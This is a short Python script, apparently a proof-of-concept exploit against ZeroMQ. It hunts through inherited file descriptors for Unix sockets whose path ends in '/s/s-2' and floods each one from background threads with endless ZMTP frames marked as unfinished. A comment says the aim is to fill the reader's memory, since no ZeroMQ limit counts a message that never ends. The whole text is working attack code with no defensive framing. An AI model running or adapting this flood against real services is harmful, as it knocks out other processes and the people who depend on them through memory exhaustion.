# fills whoever reads its messages: a message that never ends is counted by no limit of zmq
import os, socket, threading
chunk = b'\x01\xff' + b'x' * 255  # a short ZMTP frame, with more to come
def flood(fd):
    s = socket.socket(fileno=os.dup(fd)); s.setblocking(True)
    while True:
        try: s.sendall(chunk * 4096)
        except OSError: return
fds = []
for fd in range(3, 256):
    try: s = socket.socket(fileno=os.dup(fd))
    except OSError: continue
    try:
        if s.getsockname().endswith('/s/s-2'): s.getpeername()
        else: continue
    except OSError: continue
    fds.append(fd)
    s.close()
for fd in fds: threading.Thread(target=flood, args=(fd,), daemon=True).start()
print(fds)
import time; time.sleep(8)
